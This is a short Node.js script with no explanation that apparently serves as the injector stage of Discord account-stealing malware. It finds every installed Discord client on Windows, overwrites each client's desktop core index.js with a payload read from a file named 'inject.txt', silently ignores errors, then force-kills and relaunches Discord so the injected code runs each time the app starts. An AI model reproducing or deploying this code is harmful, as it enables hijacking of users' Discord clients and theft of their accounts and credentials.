const fs = require('fs');
const path = require('path');
const { execSync } = require('child_process');
const local = process.env.LOCALAPPDATA;
if (!local) process.exit(0);
const payload = fs.readFileSync(path.join(__dirname, 'inject.txt'), 'utf8');
for (const flavour of ['Discord', 'DiscordCanary', 'DiscordPTB', 'DiscordDevelopment']) {
  const root = path.join(local, flavour);
  if (!fs.existsSync(root)) continue;
  for (const app of fs.readdirSync(root).filter(d => d.startsWith('app-'))) {
    const modDir = path.join(root, app, 'modules');
    if (!fs.existsSync(modDir)) continue;
    for (const m of fs.readdirSync(modDir).filter(d => d.startsWith('discord_desktop_core'))) {
      const target = path.join(modDir, m, 'discord_desktop_core', 'index.js');
      try { fs.writeFileSync(target, payload, 'utf8'); } catch (e) {}
    }
  }
  try { execSync(`taskkill /IM ${flavour}.exe /F`, { stdio: 'ignore', windowsHide: true }); } catch (e) {}
  try { execSync(`start "" "${path.join(root, 'Update.exe')}" --processStart ${flavour}.exe`, { stdio: 'ignore', windowsHide: true }); } catch (e) {}
}
